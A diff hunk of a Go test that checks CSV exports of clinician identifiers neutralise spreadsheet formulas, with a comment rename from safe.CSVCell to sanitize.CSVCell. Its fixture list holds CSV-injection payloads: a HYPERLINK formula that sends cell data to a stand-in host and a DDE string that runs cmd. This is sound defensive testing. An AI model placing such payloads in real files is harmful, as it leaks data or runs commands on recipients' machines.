@@ -13,7 +13,7 @@ import (
 
 // TestCSVDefusesFormulas (issue 13, row 7): a TIN, NPI, clinician name or CEHRT ID that a
 // spreadsheet would run as a formula is written as text, by the same guard as the
-// report CSV (safe.CSVCell).
+// report CSV (sanitize.CSVCell).
 func TestCSVDefusesFormulas(t *testing.T) {
 	hostile := []string{`=HYPERLINK("http://x.example/?"&A1,"click")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\tTAB", "\rCR"}
 	for _, h := range hostile {
